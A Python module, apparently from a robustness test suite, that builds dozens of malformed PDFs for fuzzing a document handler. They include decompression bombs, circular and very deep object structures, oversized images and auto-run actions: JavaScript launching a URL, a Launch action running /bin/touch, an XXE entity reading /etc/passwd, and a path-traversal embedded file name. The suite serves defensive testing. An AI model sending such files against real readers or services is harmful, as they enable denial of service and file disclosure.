"""Family 4: PDF."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator

from hostility.sample import Sample, attached

WORDS = b"BT /F1 12 Tf 72 720 Td (Words on the page) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
BOMB_BYTES = 200_000_000


def samples() -> Iterator[Sample]:
    """Yield the samples of this family."""
    for group in (_pages, _streams, _structure, _drawings, _active, _locked):
        for name, data in group():
            yield attached(f"pdf-{name}", data, "note.pdf", "application/pdf")


def stream(data: bytes, head: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<" + head + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


def pdf(objects: dict[int, bytes], trailer: bytes = b"", root: int = 1) -> bytes:
    """Return a PDF of these objects."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    size = max(objects) + 1
    return bytes(out + b"trailer<</Size %d/Root %d 0 R" % (size, root) + trailer + b">>\nstartxref\n%d\n%%%%EOF" % start)


def page(
    content: bytes = WORDS,
    resources: bytes = b"",
    extra: bytes = b"",
    box: bytes = b"[0 0 595 842]",
    catalog: bytes = b"",
    **more: bytes,
) -> dict[int, bytes]:
    """Return the objects of a PDF of one page; more objects by keys such as n7."""
    return {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox "
        + box
        + b"/Resources<</Font<</F1 4 0 R>>"
        + resources
        + b">>/Contents 5 0 R"
        + extra
        + b">>",
        4: FONT,
        5: stream(content),
        **{int(key[1:]): value for key, value in more.items()},
    }


def _pages() -> Iterator[tuple[str, bytes]]:
    yield "pages-in-a-circle", pdf(page() | {2: b"<</Type/Pages/Kids[2 0 R]/Count 5>>"})
    yield "claims-a-billion-pages", pdf(page() | {2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"})
    yield "claims-negative-pages", pdf(page() | {2: b"<</Type/Pages/Kids[3 0 R]/Count -5>>"})
    yield "20000-pages", pdf(page() | {2: b"<</Type/Pages/Kids[" + b"3 0 R " * 20_000 + b"]/Count 20000>>"})
    for name, box in (
        ("100000-points", b"[0 0 100000 100000]"),
        ("1e30-points", b"[0 0 1e30 1e30]"),
        ("no-size", b"[0 0 0 0]"),
        ("turned-box", b"[595 842 0 0]"),
        ("one-point-high", b"[0 0 60000 1]"),
        ("box-of-words", b"[/a (b) null [] ]"),
    ):
        yield f"page-{name}", pdf(page(box=box))
        yield f"scan-{name}", pdf(page(b"q 9999 0 0 9999 0 0 cm /I Do Q", b"/XObject<</I 7 0 R>>", box=box, n7=_image(800, 800)))
    yield "user-unit-1e9", pdf(page(extra=b"/UserUnit 1000000000"))
    yield "rotated-by-45", pdf(page(extra=b"/Rotate 45"))


def _image(width: int, height: int, data: bytes | None = None, head: bytes = b"/Filter/FlateDecode") -> bytes:
    rows = zlib.compress(bytes(min((width + 7) // 8 * height, BOMB_BYTES)), 9) if data is None else data
    size = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 1" % (width, height)
    return stream(rows, size + head)


def _scan(image: bytes, **more: bytes) -> bytes:
    return pdf(page(b"q 595 0 0 842 0 0 cm /I Do Q", b"/XObject<</I 7 0 R>>", n7=image, **more))


def _streams() -> Iterator[tuple[str, bytes]]:
    yield "image-900-megapixels", _scan(_image(30_000, 30_000))
    yield "image-4-exapixels", _scan(_image(2_000_000_000, 2_000_000_000, zlib.compress(b"x")))
    yield "image-negative", _scan(_image(-5, -5, zlib.compress(b"x")))
    yield "image-jbig2-junk", _scan(_image(5_000, 5_000, b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\xff" * 100, b"/Filter/JBIG2Decode"))
    yield "image-jpeg-2000-junk", _scan(_image(50_000, 50_000, b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 300, b"/Filter/JPXDecode"))
    yield (
        "image-fax-without-rows",
        _scan(_image(60_000, 60_000, b"\0" * 100, b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>")),
    )
    yield (
        "image-jpeg-junk",
        _scan(_image(60_000, 60_000, b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3" + b"\x11" * 50, b"/Filter/DCTDecode")),
    )
    yield "image-is-its-own-mask", _scan(_image(800, 800, head=b"/Filter/FlateDecode/SMask 7 0 R"))
    yield (
        "image-predictor-huge",
        _scan(_image(800, 800, head=b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000>>")),
    )
    bomb = zlib.compress(bytes(BOMB_BYTES), 9)
    yield "content-bomb", pdf(page() | {5: stream(bomb, b"/Filter/FlateDecode")})
    yield "content-bomb-of-bombs", pdf(page() | {5: stream(zlib.compress(bomb, 9), b"/Filter[/FlateDecode/FlateDecode]")})
    words = zlib.compress(b"BT /F1 1 Tf " + b"(a) Tj " * 20_000_000 + b"ET", 9)
    yield "content-20-million-letters", pdf(page() | {5: stream(words, b"/Filter/FlateDecode")})
    yield "filters-500-deep", pdf(page() | {5: stream(b"61>" * 100, b"/Filter[" + b"/ASCIIHexDecode" * 500 + b"]")})
    yield "filter-unknown", pdf(page() | {5: stream(b"x", b"/Filter/NoSuchDecode")})
    yield "length-negative", pdf(page() | {5: b"<</Length -5>>stream\n" + WORDS + b"\nendstream"})
    yield "length-in-a-circle", pdf(page() | {5: b"<</Length 5 0 R>>stream\n" + WORDS + b"\nendstream"})
    yield "length-of-4-gigabytes", pdf(page() | {5: b"<</Length 4294967295>>stream\n" + WORDS + b"\nendstream"})


def _structure() -> Iterator[tuple[str, bytes]]:
    whole = pdf(page())
    yield "only-a-header", b"%PDF-1.7"
    yield "broken-off", whole[: len(whole) // 2]
    yield "behind-1000-bytes-of-junk", b"\xff" * 1_000 + whole
    yield "two-in-one", whole + b"\n" + whole
    yield "table-points-to-itself", pdf(page(), b"/Prev %d" % whole.index(b"xref"))
    yield "table-gone", whole.replace(b"xref", b"gone")
    yield "root-missing", pdf(page(), root=99)
    yield "root-is-a-page", pdf(page(), root=3)
    yield "arrays-100000-deep", pdf(page(extra=b"/X " + b"[" * 100_000 + b"]" * 100_000))
    yield "dictionaries-50000-deep", pdf(page(extra=b"/X " + b"<</A" * 50_000 + b" 1" + b">>" * 50_000))
    yield "string-8-megabytes", pdf(page(extra=b"/X (" + b"(" * 4_000_000 + b")" * 4_000_000 + b")"))
    yield "objects-100000", pdf(page() | dict.fromkeys(range(10, 100000), b"null"))
    yield "reference-chain", pdf(page() | {5: b"10 0 R"} | {n: b"%d 0 R" % (n + 1) for n in range(10, 5_000)})
    yield "object-stream-in-itself", pdf(page(n9=stream(b"9 0 ", b"/Type/ObjStm/N 1000000/First 4/Extends 9 0 R")))
    yield "names-in-a-circle", pdf(page(catalog=b"/Names<</Dests 9 0 R/EmbeddedFiles 9 0 R>>", n9=b"<</Kids[9 0 R]>>"))
    yield "outline-in-a-circle", pdf(page(catalog=b"/Outlines 9 0 R", n9=b"<</First 9 0 R/Next 9 0 R/Last 9 0 R>>"))
    xref = stream(b"\xff" * 40, b"/Type/XRef/W[999999999 999999999 999999999]/Size 99999999/Root 1 0 R")
    yield "cross-reference-stream-huge", b"%PDF-1.7\n9 0 obj\n" + xref + b"\nendobj\nstartxref\n9\n%%EOF"


def _drawings() -> Iterator[tuple[str, bytes]]:
    yield (
        "form-in-itself",
        pdf(
            page(
                b"/X Do",
                b"/XObject<</X 7 0 R>>",
                n7=stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 7 0 R>>>>"),
            )
        ),
    )
    forms = {
        f"n{n}": stream(b"/X Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1))
        for n in range(7, 17)
    }
    yield (
        "forms-20-to-the-10th",
        pdf(
            page(
                b"/X Do",
                b"/XObject<</X 7 0 R>>",
                n17=stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
                **forms,
            )
        ),
    )
    lines = zlib.compress(b"".join(b"%d %d m %d 800 l S " % (n % 590, n % 840, n % 400) for n in range(200_000)), 9)
    yield "200000-lines", pdf(page() | {5: stream(lines, b"/Filter/FlateDecode")})
    yield (
        "one-path-of-2-million",
        pdf(page() | {5: stream(zlib.compress(b"0 0 m " + b"595 842 l 0 1 l " * 1_000_000 + b"B", 9), b"/Filter/FlateDecode")}),
    )
    yield "saved-states-500000", pdf(page(b"q " * 500_000 + WORDS))
    yield "dashes-tiny", pdf(page(b"[0.000001] 0 d 0 0 m 595 842 l S"))
    yield (
        "numbers-huge",
        pdf(page(b"1e300 0 0 1e300 1e300 -1e300 cm " + WORDS + b" 99999999999999999999 0 0 1 0 0 cm 0 0 1 1 re f")),
    )
    yield "clips-100000", pdf(page(b"0 0 500 500 re W n " * 100_000 + WORDS))
    pattern = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001"
        b"/Resources<</Pattern<</P 7 0 R>>>>",
    )
    yield "pattern-in-itself", pdf(page(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern<</P 7 0 R>>", n7=pattern))
    type3 = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>"
        b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</F1 4 0 R>>>>>>"
    )
    yield "font-in-itself", pdf(page(b"BT /F1 9 Tf (aaaa) Tj ET", n7=stream(b"1 0 d0 BT /F1 1 Tf (aaaa) Tj ET")) | {4: type3})
    yield "inline-image-without-end", pdf(page(b"BI /W 99999 /H 99999 /BPC 8 /CS /G ID " + b"x" * 1_000))
    function = b"<</FunctionType 2/Domain[0 1]/N 1e9/C0[0]/C1[1]>>"
    shading = b"<</ShadingType 1/ColorSpace/DeviceGray/Function " + function + b"/Domain[0 1e9 0 1e9]>>"
    yield "shading-endless", pdf(page(b"/S sh", b"/Shading<</S " + shading + b">>"))
    yield (
        "postscript-function-deep",
        pdf(
            page(
                b"/S sh",
                b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 7 0 R>>>>",
                n7=stream(b"{" * 50_000 + b"}" * 50_000, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]"),
            )
        ),
    )


def _active() -> Iterator[tuple[str, bytes]]:
    for name, action in (
        ("javascript", b"<</S/JavaScript/JS(while\\(true\\){} app.launchURL\\('http://198.51.100.7/'\\))>>"),
        ("launch", b"<</S/Launch/F(/bin/touch)/P(/var/tmp/hostile-marker)>>"),
        ("web-address", b"<</S/URI/URI(http://198.51.100.7/)>>"),
        ("remote-file", b"<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\share)/D[0/Fit]>>"),
        ("submits-form", b"<</S/SubmitForm/F(http://198.51.100.7/)>>"),
    ):
        yield f"opens-{name}", pdf(page(catalog=b"/OpenAction" + action + b"/AA<</WC" + action + b">>"))
    xfa = stream(
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    )
    yield "form-with-external-entity", pdf(page(catalog=b"/AcroForm<</XFA 9 0 R/Fields[]>>", n9=xfa))
    yield (
        "form-fields-in-a-circle",
        pdf(page(catalog=b"/AcroForm<</Fields[9 0 R]>>", n9=b"<</FT/Tx/T(a)/Kids[9 0 R]/Parent 9 0 R>>")),
    )
    files = b"".join(b"(f%d) 9 0 R " % n for n in range(5_000))
    yield (
        "5000-files-within",
        pdf(
            page(
                catalog=b"/Names<</EmbeddedFiles<</Names[" + files + b"]>>>>",
                n9=b"<</Type/Filespec/F(../../hostile-marker)/EF<</F 8 0 R>>>>",
                n8=stream(b"x"),
            )
        ),
    )
    bomb = stream(zlib.compress(bytes(BOMB_BYTES), 9), b"/Filter/FlateDecode")
    yield (
        "bomb-within",
        pdf(
            page(catalog=b"/Names<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>", n9=b"<</Type/Filespec/F(a)/EF<</F 8 0 R>>>>", n8=bomb)
        ),
    )
    yield (
        "notes-in-a-circle",
        pdf(page(extra=b"/Annots[9 0 R 9 0 R]", n9=b"<</Subtype/Text/Popup 9 0 R/Parent 9 0 R/Rect[0 0 9 9]/AP<</N 9 0 R>>>>")),
    )


def _locked() -> Iterator[tuple[str, bytes]]:
    for name, lock in (
        ("by-unknown-handler", b"<</Filter/Nobody/V 99/R 99>>"),
        ("by-password", b"<</Filter/Standard/V 2/R 3/Length 128/P -44/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")>>"),
        (
            "key-of-2-billion-bits",
            b"<</Filter/Standard/V 2/R 3/Length 2000000000/P -44/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")>>",
        ),
    ):
        yield f"locked-{name}", pdf(page(), b"/Encrypt " + lock + b"/ID[(a)(b)]")
    yield "in-base64", base64.encodebytes(pdf(page()))
